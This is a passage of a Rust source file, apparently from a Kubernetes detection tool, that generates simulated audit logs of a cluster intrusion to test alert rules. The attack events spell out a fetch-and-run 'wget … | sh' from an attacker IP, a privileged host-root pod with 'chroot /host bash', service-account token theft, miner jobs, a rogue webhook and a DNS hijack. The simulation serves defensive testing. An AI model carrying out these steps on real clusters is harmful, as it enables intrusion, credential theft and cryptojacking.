//! Attack simulation: realistic Kubernetes audit events, deterministic from a seed.
//!
//! - [`EventBuilder`] writes one `audit.k8s.io/v1` `Event` as kube-apiserver's log backend does
//!   (field order, `responseStatus`, authorization annotations, request/response bodies at the
//!   level a typical policy logs them).
//! - [`attack_story`] is an intrusion in steps — reconnaissance, discovery, credential access,
//!   privilege escalation, execution, persistence, defense evasion, exposure and impact — each
//!   step naming the built-in rules that must detect it.
//! - [`Background`] is benign cluster traffic: kubelets renewing leases and reporting status,
//!   controllers reconciling, the scheduler binding pods, monitoring scraping, CI rolling out
//!   deployments, people listing pods and reading logs in their namespaces, health probes.
//! - [`Generator`] mixes both into one time-ordered stream (what `palisade simulate audit`
//!   writes), with a chosen number of attack stories.

use crate::event::{format_rfc3339_us, Stage};
use serde::Serialize;
use serde_json::{json, Value};

/// A small deterministic PRNG (SplitMix64).
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    /// Seeded generator.
    pub fn new(seed: u64) -> Self {
        Rng(seed ^ 0x9E37_79B9_7F4A_7C15)
    }
    /// Next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    /// Uniform in `0..n` (n > 0).
    pub fn below(&mut self, n: u64) -> u64 {
        if n == 0 {
            0
        } else {
            self.next_u64() % n
        }
    }
    /// One element of a non-empty slice.
    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
    /// A UUID-shaped random string.
    pub fn uuid(&mut self) -> String {
        let a = self.next_u64();
        let b = self.next_u64();
        format!(
            "{:08x}-{:04x}-4{:03x}-{:04x}-{:012x}",
            a >> 32,
            (a >> 16) & 0xffff,
            a & 0xfff,
            (b >> 48) & 0x3fff | 0x8000,
            b & 0xffff_ffff_ffff
        )
    }
    /// A lowercase alphanumeric suffix like Kubernetes generates (`7d9f8`).
    pub fn suffix(&mut self, n: usize) -> String {
        const A: &[u8] = b"bcdfghjklmnpqrstvwxz2456789";
        (0..n).map(|_| A[self.below(A.len() as u64) as usize] as char).collect()
    }
}

fn api_group_version(resource: &str) -> (&'static str, &'static str) {
    match resource {
        "deployments" | "daemonsets" | "statefulsets" | "replicasets" | "controllerrevisions" => ("apps", "v1"),
        "cronjobs" | "jobs" => ("batch", "v1"),
        "clusterroles" | "clusterrolebindings" | "roles" | "rolebindings" => ("rbac.authorization.k8s.io", "v1"),
        "mutatingwebhookconfigurations" | "validatingwebhookconfigurations" => ("admissionregistration.k8s.io", "v1"),
        "certificatesigningrequests" => ("certificates.k8s.io", "v1"),
        "selfsubjectrulesreviews" | "selfsubjectaccessreviews" | "subjectaccessreviews" => {
            ("authorization.k8s.io", "v1")
        }
        "tokenreviews" => ("authentication.k8s.io", "v1"),
        "leases" => ("coordination.k8s.io", "v1"),
        "endpointslices" => ("discovery.k8s.io", "v1"),
        "ingresses" | "networkpolicies" => ("networking.k8s.io", "v1"),
        "horizontalpodautoscalers" => ("autoscaling", "v2"),
        _ => ("", "v1"),
    }
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct UserOut<'a> {
    username: &'a str,
    #[serde(skip_serializing_if = "str::is_empty")]
    uid: &'a str,
    groups: &'a [String],
    #[serde(skip_serializing_if = "Option::is_none")]
    extra: Option<Value>,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct ObjectRefOut<'a> {
    resource: &'a str,
    #[serde(skip_serializing_if = "str::is_empty")]
    namespace: &'a str,
    #[serde(skip_serializing_if = "str::is_empty")]
    name: &'a str,
    #[serde(skip_serializing_if = "str::is_empty")]
    api_group: &'a str,
    api_version: &'a str,
    #[serde(skip_serializing_if = "str::is_empty")]
    subresource: &'a str,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct EventOut<'a> {
    kind: &'a str,
    api_version: &'a str,
    level: &'a str,
    #[serde(rename = "auditID")]
    audit_id: &'a str,
    stage: &'a str,
    #[serde(rename = "requestURI")]
    request_uri: &'a str,
    verb: &'a str,
    user: UserOut<'a>,
    #[serde(skip_serializing_if = "Option::is_none")]
    impersonated_user: Option<UserOut<'a>>,
    #[serde(rename = "sourceIPs")]
    source_ips: &'a [String],
    user_agent: &'a str,
    #[serde(skip_serializing_if = "Option::is_none")]
    object_ref: Option<ObjectRefOut<'a>>,
    response_status: Value,
    #[serde(skip_serializing_if = "Option::is_none")]
    request_object: Option<&'a Value>,
    #[serde(skip_serializing_if = "Option::is_none")]
    response_object: Option<&'a Value>,
    request_received_timestamp: String,
    stage_timestamp: String,
    annotations: serde_json::Map<String, Value>,
}

/// Builds one audit event as kube-apiserver logs it.
#[derive(Debug, Clone)]
pub struct EventBuilder {
    level: String,
    audit_id: String,
    stage: Stage,
    verb: String,
    user: String,
    uid: String,
    groups: Vec<String>,
    impersonated: Option<(String, Vec<String>)>,
    source_ips: Vec<String>,
    user_agent: String,
    resource: String,
    subresource: String,
    namespace: String,
    name: String,
    api_group: Option<String>,
    api_version: Option<String>,
    uri: Option<String>,
    query: String,
    code: i64,
    req: Option<Value>,
    resp: Option<Value>,
    time_us: i64,
    latency_us: i64,
    annotations: Vec<(String, String)>,
    authz_reason: Option<String>,
}

impl EventBuilder {
    /// A `verb` on `resource` (plural; "" for a non-resource URL) by `kubernetes-admin`.
    pub fn new(verb: &str, resource: &str) -> Self {
        EventBuilder {
            level: "Metadata".into(),
            audit_id: "00000000-0000-4000-8000-000000000000".into(),
            stage: Stage::ResponseComplete,
            verb: verb.into(),
            user: "kubernetes-admin".into(),
            uid: String::new(),
            groups: vec!["kubeadm:cluster-admins".into(), "system:authenticated".into()],
            impersonated: None,
            source_ips: vec!["192.168.49.1".into()],
            user_agent: "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350".into(),
            resource: resource.into(),
            subresource: String::new(),
            namespace: String::new(),
            name: String::new(),
            api_group: None,
            api_version: None,
            uri: None,
            query: String::new(),
            code: match verb {
                "create" => 201,
                _ => 200,
            },
            req: None,
            resp: None,
            time_us: 1_717_236_000_000_000,
            latency_us: 4_321,
            annotations: Vec::new(),
            authz_reason: None,
        }
    }
    /// Namespace.
    pub fn ns(mut self, ns: &str) -> Self {
        self.namespace = ns.into();
        self
    }
    /// Object name.
    pub fn name(mut self, name: &str) -> Self {
        self.name = name.into();
        self
    }
    /// Subresource.
    #[allow(clippy::should_implement_trait)]
    pub fn sub(mut self, sub: &str) -> Self {
        self.subresource = sub.into();
        self
    }
    /// API group and version (defaults follow the resource).
    pub fn group(mut self, group: &str, version: &str) -> Self {
        self.api_group = Some(group.into());
        self.api_version = Some(version.into());
        self
    }
    /// A user with groups (`system:authenticated` is added).
    pub fn user(mut self, name: &str, groups: &[&str]) -> Self {
        self.user = name.into();
        self.groups = groups.iter().map(|g| g.to_string()).collect();
        if !self.groups.iter().any(|g| g == "system:authenticated") {
            self.groups.push("system:authenticated".into());
        }
        self
    }
    /// A service account user.
    pub fn sa(mut self, ns: &str, name: &str) -> Self {
        self.user = format!("system:serviceaccount:{ns}:{name}");
        self.uid = format!(
            "{:08x}-1111-4222-8333-{:012x}",
            crate::alert::fnv64(self.user.as_bytes()) as u32,
            crate::alert::fnv64(ns.as_bytes()) & 0xffff_ffff_ffff
        );
        self.groups = vec![
            "system:serviceaccounts".into(),
            format!("system:serviceaccounts:{ns}"),
            "system:authenticated".into(),
        ];
        self
    }
    /// A kubelet.
    pub fn node(mut self, node: &str) -> Self {
        self.user = format!("system:node:{node}");
        self.groups = vec!["system:nodes".into(), "system:authenticated".into()];
        self
    }
    /// An unauthenticated request.
    pub fn anonymous(mut self) -> Self {
        self.user = "system:anonymous".into();
        self.groups = vec!["system:unauthenticated".into()];
        self
    }
    /// Impersonation headers.
    pub fn impersonate(mut self, name: &str, groups: &[&str]) -> Self {
        self.impersonated = Some((name.into(), groups.iter().map(|g| g.to_string()).collect()));
        self
    }
    /// Client address (and proxies).
    pub fn ip(mut self, ip: &str) -> Self {
        self.source_ips = vec![ip.into()];
        self
    }
    /// User agent.
    pub fn ua(mut self, ua: &str) -> Self {
        self.user_agent = ua.into();
        self
    }
    /// Response code (403 and 404 produce the matching `Status`).
    pub fn code(mut self, code: i64) -> Self {
        self.code = code;
        self
    }
    /// Request body (sets level Request at least).
    pub fn req(mut self, v: Value) -> Self {
        self.req = Some(v);
        if self.level == "Metadata" {
            self.level = "Request".into();
        }
        self
    }
    /// Response body (sets level RequestResponse).
    pub fn resp(mut self, v: Value) -> Self {
        self.resp = Some(v);
        self.level = "RequestResponse".into();
        self
    }
    /// Audit level.
    pub fn level(mut self, level: &str) -> Self {
        self.level = level.into();
        self
    }
    /// Stage.
    pub fn stage(mut self, s: Stage) -> Self {
        self.stage = s;
        self
    }
    /// Request time, microseconds since the epoch.
    pub fn at(mut self, us: i64) -> Self {
        self.time_us = us;
        self
    }
    /// Audit ID.
    pub fn id(mut self, id: &str) -> Self {
        self.audit_id = id.into();
        self
    }
    /// Explicit request URI (non-resource requests, proxies).
    pub fn uri(mut self, uri: &str) -> Self {
        self.uri = Some(uri.into());
        self
    }
    /// Query string for the computed URI (without `?`).
    pub fn query(mut self, q: &str) -> Self {
        self.query = q.into();
        self
    }
    /// An event annotation.
    pub fn annotate(mut self, k: &str, v: &str) -> Self {
        self.annotations.push((k.into(), v.into()));
        self
    }
    /// The RBAC reason annotation.
    pub fn reason(mut self, r: &str) -> Self {
        self.authz_reason = Some(r.into());
        self
    }

    fn computed_uri(&self) -> String {
        if let Some(u) = &self.uri {
            return u.clone();
        }
        let (g, v) = api_group_version(&self.resource);
        let group = self.api_group.as_deref().unwrap_or(g);
        let version = self.api_version.as_deref().unwrap_or(v);
        let mut u = if group.is_empty() { format!("/api/{version}") } else { format!("/apis/{group}/{version}") };
        if self.resource == "namespaces" {
            u.push_str("/namespaces");
            if !self.name.is_empty() {
                u.push('/');
                u.push_str(&self.name);
            }
        } else {
            if !self.namespace.is_empty() {
                u.push_str("/namespaces/");
                u.push_str(&self.namespace);
            }
            u.push('/');
            u.push_str(&self.resource);
            if !self.name.is_empty() {
                u.push('/');
                u.push_str(&self.name);
            }
        }
        if !self.subresource.is_empty() {
            u.push('/');
            u.push_str(&self.subresource);
        }
        if !self.query.is_empty() {
            u.push('?');
            u.push_str(&self.query);
        } else if self.verb == "list" {
            u.push_str("?limit=500");
        } else if self.verb == "watch" {
            u.push_str("?allowWatchBookmarks=true&resourceVersion=0&timeoutSeconds=498&watch=true");
        }
        u
    }

    /// The event as one JSON line.
    pub fn build(&self) -> String {
        let (g, v) = api_group_version(&self.resource);
        let group = self.api_group.as_deref().unwrap_or(g);
        let version = self.api_version.as_deref().unwrap_or(v);
        let uri = self.computed_uri();
        let status = match self.code {
            403 => {
                json!({"metadata":{},"status":"Failure","message":format!("{} \"{}\" is forbidden: User \"{}\" cannot {} resource \"{}\" in API group \"{}\"{}", self.resource, self.name, self.user, self.verb, self.resource, group, if self.namespace.is_empty() { " at the cluster scope".to_string() } else { format!(" in the namespace \"{}\"", self.namespace) }),"reason":"Forbidden","details":{"name":self.name,"kind":self.resource},"code":403})
            }
            404 => {
                json!({"metadata":{},"status":"Failure","message":format!("{} \"{}\" not found", self.resource, self.name),"reason":"NotFound","details":{"name":self.name,"kind":self.resource},"code":404})
            }
            409 => {
                json!({"metadata":{},"status":"Failure","message":"the object has been modified; please apply your changes to the latest version and try again","reason":"Conflict","code":409})
            }
            c => json!({"metadata":{},"code":c}),
        };
        let mut ann = serde_json::Map::new();
        if self.code == 403 {
            ann.insert("authorization.k8s.io/decision".into(), json!("forbid"));
            ann.insert("authorization.k8s.io/reason".into(), json!(""));
        } else {
            ann.insert("authorization.k8s.io/decision".into(), json!("allow"));
            let reason = self.authz_reason.clone().unwrap_or_else(|| {
                if self.user.starts_with("system:node:") {
                    String::new()
                } else {
                    format!(
                        "RBAC: allowed by ClusterRoleBinding \"{}\" of ClusterRole \"{}\" to User \"{}\"",
                        "binding", "role", self.user
                    )
                }
            });
            ann.insert("authorization.k8s.io/reason".into(), json!(reason));
        }
        for (k, v) in &self.annotations {
            ann.insert(k.clone(), json!(v));
        }
        let imp_groups;
        let impersonated = match &self.impersonated {
            Some((n, gs)) => {
                imp_groups = gs.clone();
                Some(UserOut { username: n, uid: "", groups: &imp_groups, extra: None })
            }
            None => None,
        };
        let stage_time = match self.stage {
            Stage::RequestReceived => self.time_us,
            _ => self.time_us + self.latency_us,
        };
        let level = self.level.as_str();
        let with_req = level == "Request" || level == "RequestResponse";
        let with_resp = level == "RequestResponse" && self.stage == Stage::ResponseComplete;
        let e = EventOut {
            kind: "Event",
            api_version: "audit.k8s.io/v1",
            level,
            audit_id: &self.audit_id,
            stage: self.stage.as_str(),
            request_uri: &uri,
            verb: &self.verb,
            user: UserOut {
                username: &self.user,
                uid: &self.uid,
                groups: &self.groups,
                extra: if self.user.starts_with("system:serviceaccount:") {
                    Some(
                        json!({"authentication.kubernetes.io/credential-id":["JTI=1f2c3d4e-5f60-4718-9a0b-1c2d3e4f5a6b"]}),
                    )
                } else {
                    None
                },
            },
            impersonated_user: impersonated,
            source_ips: &self.source_ips,
            user_agent: &self.user_agent,
            object_ref: if self.resource.is_empty() {
                None
            } else {
                Some(ObjectRefOut {
                    resource: &self.resource,
                    namespace: &self.namespace,
                    name: &self.name,
                    api_group: group,
                    api_version: version,
                    subresource: &self.subresource,
                })
            },
            response_status: if self.stage == Stage::RequestReceived {
                json!({"metadata":{},"code":0})
            } else {
                status
            },
            request_object: if with_req { self.req.as_ref() } else { None },
            response_object: if with_resp { self.resp.as_ref() } else { None },
            request_received_timestamp: format_rfc3339_us(self.time_us),
            stage_timestamp: format_rfc3339_us(stage_time),
            annotations: ann,
        };
        serde_json::to_string(&e).unwrap_or_default()
    }
}

// ---------------------------------------------------------------------------------------------
// Objects

/// A container spec.
pub fn container(name: &str, image: &str) -> Value {
    json!({
        "name": name,
        "image": image,
        "resources": {"requests": {"cpu": "100m", "memory": "128Mi"}, "limits": {"memory": "256Mi"}},
        "terminationMessagePath": "/dev/termination-log",
        "terminationMessagePolicy": "File",
        "imagePullPolicy": "IfNotPresent",
        "securityContext": {"allowPrivilegeEscalation": false, "runAsNonRoot": true, "capabilities": {"drop": ["ALL"]}}
    })
}

/// A pod spec with these containers.
pub fn pod_spec(containers: Vec<Value>, service_account: &str) -> Value {
    json!({
        "containers": containers,
        "restartPolicy": "Always",
        "terminationGracePeriodSeconds": 30,
        "dnsPolicy": "ClusterFirst",
        "serviceAccountName": service_account,
        "securityContext": {"seccompProfile": {"type": "RuntimeDefault"}},
        "schedulerName": "default-scheduler",
        "enableServiceLinks": true,
        "preemptionPolicy": "PreemptLowerPriority"
    })
}

/// A Pod.
pub fn pod(ns: &str, name: &str, labels: Value, spec: Value) -> Value {
    json!({
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {"name": name, "namespace": ns, "labels": labels},
        "spec": spec
    })
}

/// A workload (Deployment, DaemonSet, StatefulSet) with a pod template.
pub fn workload(kind: &str, ns: &str, name: &str, spec: Value) -> Value {
    let mut s = json!({
        "selector": {"matchLabels": {"app": name}},
        "template": {"metadata": {"labels": {"app": name}}, "spec": spec}
    });
    if kind != "DaemonSet" {
        s["replicas"] = json!(2);
    }
    json!({
        "kind": kind,
        "apiVersion": "apps/v1",
        "metadata": {"name": name, "namespace": ns, "labels": {"app": name}},
        "spec": s
    })
}

/// A CronJob.
pub fn cronjob(ns: &str, name: &str, schedule: &str, spec: Value) -> Value {
    json!({
        "kind": "CronJob",
        "apiVersion": "batch/v1",
        "metadata": {"name": name, "namespace": ns},
        "spec": {
            "schedule": schedule,
            "concurrencyPolicy": "Forbid",
            "jobTemplate": {"spec": {"template": {"metadata": {"labels": {"job": name}}, "spec": spec}}}
        }
    })
}

/// A (Cluster)RoleBinding.
pub fn binding(kind: &str, ns: &str, name: &str, role_kind: &str, role: &str, subjects: Value) -> Value {
    let mut meta = json!({"name": name});
    if !ns.is_empty() {
        meta["namespace"] = json!(ns);
    }
    json!({
        "kind": kind,
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": meta,
        "subjects": subjects,
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": role_kind, "name": role}
    })
}

/// A (Cluster)Role.
pub fn role(kind: &str, ns: &str, name: &str, rules: Value) -> Value {
    let mut meta = json!({"name": name});
    if !ns.is_empty() {
        meta["namespace"] = json!(ns);
    }
    json!({"kind": kind, "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": meta, "rules": rules})
}

/// A Service.
pub fn service(ns: &str, name: &str, type_: &str, selector: Value, port: u16) -> Value {
    json!({
        "kind": "Service",
        "apiVersion": "v1",
        "metadata": {"name": name, "namespace": ns},
        "spec": {"type": type_, "selector": selector, "ports": [{"protocol": "TCP", "port": port, "targetPort": port}]}
    })
}

/// Adds a creation response (uid, resourceVersion, timestamps) to an object.
pub fn created(mut obj: Value, uid: &str, time_us: i64) -> Value {
    if let Some(m) = obj.get_mut("metadata").and_then(Value::as_object_mut) {
        m.insert("uid".into(), json!(uid));
        m.insert("resourceVersion".into(), json!(format!("{}", (time_us / 1000) % 100_000_000)));
        m.insert(
            "creationTimestamp".into(),
            json!(format_rfc3339_us(time_us / 1_000_000 * 1_000_000).replace(".000000", "")),
        );
    }
    obj
}

// ---------------------------------------------------------------------------------------------
// The attack story

/// One step of an attack story.
#[derive(Debug, Clone)]
pub struct Step {
    /// What the attacker does.
    pub name: &'static str,
    /// The ATT&CK tactic of the step.
    pub tactic: &'static str,
    /// The rules that must raise an alert on the step's events.
    pub expect: &'static [&'static str],
    /// The audit events (JSON lines), in time order.
    pub events: Vec<String>,
    /// Time of the step's first event.
    pub time_us: i64,
}

/// The attacker's identity and address in story number `k`.
pub fn attacker(k: usize) -> (String, String, String) {
    let ns = if k == 0 { "shop".to_string() } else { format!("shop-{k}") };
    let ip = format!("198.51.{}.{}", 100 + (k / 250) % 100, 10 + k % 240);
    (ns, "web".to_string(), ip)
}

/// An intrusion in steps, starting at `start_us`: a service account token stolen from the
/// `web` pod of namespace `shop` (`shop-K` for story `k` > 0) is used from outside the cluster
/// to discover, harvest credentials, escalate, execute, persist, evade and destroy.
pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
    let mut rng = Rng::new(seed ^ (k as u64).wrapping_mul(0x5851_F42D_4C95_7F2D));
    let (ans, asa, ip) = attacker(k);
    let ua = "kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f";
    let mut t = start_us;
    let mut steps: Vec<Step> = Vec::new();
    let sfx = rng.suffix(5);
    // every attacker request: the stolen token from outside
    let base = |verb: &str, res: &str, t: i64, rng: &mut Rng| {
        EventBuilder::new(verb, res).sa(&ans, &asa).ip(&ip).ua(ua).at(t).id(&rng.uuid())
    };
    macro_rules! step {
        ($name:expr, $tactic:expr, $expect:expr, $events:expr) => {{
            let step_start = t;
            let events: Vec<String> = $events;
            steps.push(Step { name: $name, tactic: $tactic, expect: $expect, events, time_us: step_start });
            t += 30_000_000;
        }};
    }

    step!("Scan the API server with kube-hunter", "Discovery", &["PAL-KA-057", "PAL-KA-040"], {
        vec![base("list", "pods", t, &mut rng).ua("kube-hunter/0.6.8").build()]
    });
    step!("Ask what the stolen token may do", "Discovery", &["PAL-KA-044"], {
        vec![base("create", "selfsubjectrulesreviews", t, &mut rng)
            .req(json!({"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","metadata":{"creationTimestamp":null},"spec":{"namespace":ans}}))
            .build()]
    });
    step!("Probe for permissions (forbidden requests)", "Discovery", &["PAL-KA-045"], {
        let mut v = Vec::new();
        for (i, res) in
            ["secrets", "configmaps", "pods", "deployments", "serviceaccounts"].iter().cycle().take(22).enumerate()
        {
            v.push(base("list", res, t + i as i64 * 400_000, &mut rng).ns("kube-system").code(403).build());
        }
        v
    });
    step!("Harvest secrets", "Credential Access", &["PAL-KA-041", "PAL-KA-042"], {
        let mut v = Vec::new();
        for i in 0..12 {
            let ns = if i % 2 == 0 { ans.as_str() } else { "payments" };
            v.push(
                base("get", "secrets", t + i * 1_500_000, &mut rng).ns(ns).name(&format!("db-credentials-{i}")).build(),
            );
        }
        v.push(base("list", "secrets", t + 20_000_000, &mut rng).build());
        v
    });
    step!("Mint a token for a kube-system service account", "Credential Access", &["PAL-KA-036"], {
        vec![base("create", "serviceaccounts", t, &mut rng)
            .ns("kube-system")
            .name("clusterrole-aggregation-controller")
            .sub("token")
            .req(json!({"kind":"TokenRequest","apiVersion":"authentication.k8s.io/v1","metadata":{"creationTimestamp":null},"spec":{"audiences":null,"expirationSeconds":31536000,"boundObjectRef":null},"status":{"token":"","expirationTimestamp":null}}))
            .build()]
    });
    step!("Bind cluster-admin to the stolen identity", "Privilege Escalation", &["PAL-KA-030"], {
        let b = binding(
            "ClusterRoleBinding",
            "",
            &format!("system:kube-dbg-{sfx}"),
            "ClusterRole",
            "cluster-admin",
            json!([{"kind":"ServiceAccount","name":asa,"namespace":ans}]),
        );
        vec![base("create", "clusterrolebindings", t, &mut rng)
            .name(&format!("system:kube-dbg-{sfx}"))
            .req(b.clone())
            .resp(created(b, &rng.uuid(), t))
            .build()]
    });
    step!("Create backdoor roles", "Persistence", &["PAL-KA-031", "PAL-KA-032", "PAL-KA-033"], {
        let r1 = role(
            "ClusterRole",
            "",
            &format!("kube-system-ops-{sfx}"),
            json!([{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]),
        );
        let r2 = role(
            "Role",
            &ans,
            "debugger",
            json!([{"apiGroups":[""],"resources":["pods","pods/exec"],"verbs":["get","list","create"]}]),
        );
        let r3 = role(
            "ClusterRole",
            "",
            &format!("token-helper-{sfx}"),
            json!([{"apiGroups":[""],"resources":["users","groups","serviceaccounts"],"verbs":["impersonate"]},{"apiGroups":["rbac.authorization.k8s.io"],"resources":["clusterroles"],"verbs":["escalate","bind"]}]),
        );
        vec![
            base("create", "clusterroles", t, &mut rng).name(&format!("kube-system-ops-{sfx}")).req(r1).build(),
            base("create", "roles", t + 1_000_000, &mut rng).ns(&ans).name("debugger").req(r2).build(),
            base("create", "clusterroles", t + 2_000_000, &mut rng)
                .name(&format!("token-helper-{sfx}"))
                .req(r3)
                .build(),
        ]
    });
    step!("Open the cluster to anonymous users", "Persistence", &["PAL-KA-034", "PAL-KA-035"], {
        let b = binding(
            "ClusterRoleBinding",
            "",
            &format!("anon-view-{sfx}"),
            "ClusterRole",
            "view",
            json!([{"kind":"User","apiGroup":"rbac.authorization.k8s.io","name":"system:anonymous"}]),
        );
        vec![
            base("create", "clusterrolebindings", t, &mut rng).name(&format!("anon-view-{sfx}")).req(b).build(),
            EventBuilder::new("list", "configmaps")
                .anonymous()
                .ns("kube-system")
                .ip(&ip)
                .ua("curl/8.5.0")
                .at(t + 3_000_000)
                .id(&rng.uuid())
                .reason(&format!("RBAC: allowed by ClusterRoleBinding \"anon-view-{sfx}\" of ClusterRole \"view\" to User \"system:anonymous\""))
                .build(),
        ]
    });
    let evil_pod = format!("kube-proxy-{}", rng.suffix(5));
    step!(
        "Run a privileged pod with the host's namespaces and root file system in kube-system",
        "Privilege Escalation",
        &["PAL-KA-010", "PAL-KA-011", "PAL-KA-012", "PAL-KA-014", "PAL-KA-007"],
        {
            let mut c = container("kube-proxy", "registry.evil-mirror.example:5000/k8s/kube-proxy:v1.29.3");
            c["securityContext"] = json!({"privileged": true});
            c["command"] = json!(["/bin/sh", "-c", "sleep infinity"]);
            c["volumeMounts"] = json!([{"name": "host", "mountPath": "/host"}]);
            let mut spec = pod_spec(vec![c], "default");
            spec["hostPID"] = json!(true);
            spec["hostNetwork"] = json!(true);
            spec["volumes"] = json!([{"name": "host", "hostPath": {"path": "/", "type": ""}}]);
            spec["tolerations"] = json!([{"operator": "Exists"}]);
            let p = pod("kube-system", &evil_pod, json!({"k8s-app": "kube-proxy"}), spec);
            vec![base("create", "pods", t, &mut rng)
                .ns("kube-system")
                .name(&evil_pod)
                .req(p.clone())
                .resp(created(p, &rng.uuid(), t))
                .build()]
        }
    );
    step!("Exec into and attach to the pod", "Execution", &["PAL-KA-001", "PAL-KA-002"], {
        vec![
            base("create", "pods", t, &mut rng)
                .ns("kube-system")
                .name(&evil_pod)
                .sub("exec")
                .query(
                    "command=chroot&command=%2Fhost&command=bash&container=kube-proxy&stdin=true&stdout=true&tty=true",
                )
                .code(101)
                .build(),
            base("create", "pods", t + 30_000_000, &mut rng)
                .ns("kube-system")
                .name(&evil_pod)
                .sub("attach")
                .query("container=kube-proxy&stdin=true&stdout=true&tty=true")
                .code(101)
                .build(),
        ]
    });
    step!("Inject a debugging container with ptrace into a running pod", "Execution", &["PAL-KA-003", "PAL-KA-013"], {
        let pod_name = format!("web-{}-{}", rng.suffix(10), rng.suffix(5));
        let mut spec = pod_spec(vec![container("web", "ghcr.io/corp/shop-web:2.14.1")], &asa);
        spec["ephemeralContainers"] = json!([{"name": "debugger-x1", "image": "busybox:1.36", "command": ["sh"], "stdin": true, "tty": true, "targetContainerName": "web", "securityContext": {"capabilities": {"add": ["SYS_PTRACE", "SYS_ADMIN"]}}}]);
        let p = pod(&ans, &pod_name, json!({"app": "web"}), spec);
        vec![base("patch", "pods", t, &mut rng).ns(&ans).name(&pod_name).sub("ephemeralcontainers").req(p).build()]
    });
    step!("Run commands through the kubelet API", "Execution", &["PAL-KA-004"], {
        vec![base("create", "nodes", t, &mut rng)
            .name("node-2")
            .sub("proxy")
            .uri("/api/v1/nodes/node-2/proxy/run/kube-system/coredns-5dd5756b68-x2x9q/coredns?cmd=cat+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken")
            .build()]
    });
    step!("Persist with a crypto-miner CronJob", "Persistence", &["PAL-KA-015", "PAL-KA-005"], {
        let mut c = container("rotate", "docker.io/xmrig/xmrig:6.21.0");
        c["args"] = json!(["--donate-level=1", "-o", "pool.supportxmr.com:443", "--tls", "-k"]);
        let cj = cronjob(&ans, "log-rotate", "*/5 * * * *", pod_spec(vec![c], &asa));
        vec![base("create", "cronjobs", t, &mut rng)
            .ns(&ans)
            .name("log-rotate")
            .req(cj.clone())
            .resp(created(cj, &rng.uuid(), t))
            .build()]
    });
    step!(
        "Spread a disguised miner to every node with a DaemonSet",
        "Persistence",
        &["PAL-KA-016", "PAL-KA-006", "PAL-KA-008"],
        {
            let mut c = container("exporter", "docker.io/library/alpine:3.19");
            c["command"] = json!(["sh", "-c", format!("wget -qO- http://{ip}/x.sh | sh; /tmp/.x/syslogd -o stratum+tcp://198.51.100.250:3333 --cpu-max-threads-hint 90")]);
            let ds = workload("DaemonSet", "monitoring", "node-exporter-ext", pod_spec(vec![c], "default"));
            vec![base("create", "daemonsets", t, &mut rng).ns("monitoring").name("node-exporter-ext").req(ds).build()]
        }
    );
    step!("Register a mutating webhook and delete the policy webhook", "Persistence", &["PAL-KA-050", "PAL-KA-051"], {
        let mw = json!({"kind":"MutatingWebhookConfiguration","apiVersion":"admissionregistration.k8s.io/v1","metadata":{"name":"pod-defaults.k8s.io"},"webhooks":[{"name":"pod-defaults.k8s.io","clientConfig":{"url":format!("https://{ip}:8443/mutate")},"rules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods","secrets"]}],"sideEffects":"None","admissionReviewVersions":["v1"],"failurePolicy":"Ignore"}]});
        vec![
            base("create", "mutatingwebhookconfigurations", t, &mut rng).name("pod-defaults.k8s.io").req(mw).build(),
            base("delete", "validatingwebhookconfigurations", t + 2_000_000, &mut rng)
                .name("gatekeeper-validating-webhook-configuration")
                .build(),
        ]
    });
    step!("Sidecar injected into new pods by the rogue webhook", "Persistence", &["PAL-KA-017"], {
        let pod_name = format!("checkout-{}-{}", rng.suffix(10), rng.suffix(5));
        let p = pod(
            &ans,
            &pod_name,
            json!({"app": "checkout"}),
            pod_spec(vec![container("checkout", "ghcr.io/corp/checkout:1.8.0")], "checkout"),
        );
        vec![EventBuilder::new("create", "pods")
            .sa("kube-system", "replicaset-controller")
            .ip("10.0.0.10")
            .ua("kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/system:serviceaccount:kube-system:replicaset-controller")
            .ns(&ans)
            .name(&pod_name)
            .at(t)
            .id(&rng.uuid())
            .req(p)
            .annotate("mutation.webhook.admission.k8s.io/round_0_index_0", r#"{"configuration":"pod-defaults.k8s.io","webhook":"pod-defaults.k8s.io","mutated":true}"#)
            .annotate("patch.webhook.admission.k8s.io/round_0_index_0", r#"{"configuration":"pod-defaults.k8s.io","webhook":"pod-defaults.k8s.io","patch":[{"op":"add","path":"/spec/containers/-","value":{"name":"istio-proxy","image":"198.51.100.250:5000/proxy:1"}}],"patchType":"JSONPatch"}"#)
            .build()]
    });
    step!("Rewrite cluster DNS", "Credential Access", &["PAL-KA-052"], {
        vec![base("patch", "configmaps", t, &mut rng)
            .ns("kube-system")
            .name("coredns")
            .req(json!({"data":{"Corefile":".:53 {\n    errors\n    rewrite name regex (.*)\\.payments\\.svc\\.cluster\\.local evil.example.net\n    kubernetes cluster.local in-addr.arpa ip6.arpa\n    forward . /etc/resolv.conf\n    cache 30\n}\n"}}))
            .build()]
    });
    step!("Mint and approve a client certificate", "Credential Access", &["PAL-KA-039", "PAL-KA-038"], {
        let csr_name = format!("csr-{}", rng.suffix(5));
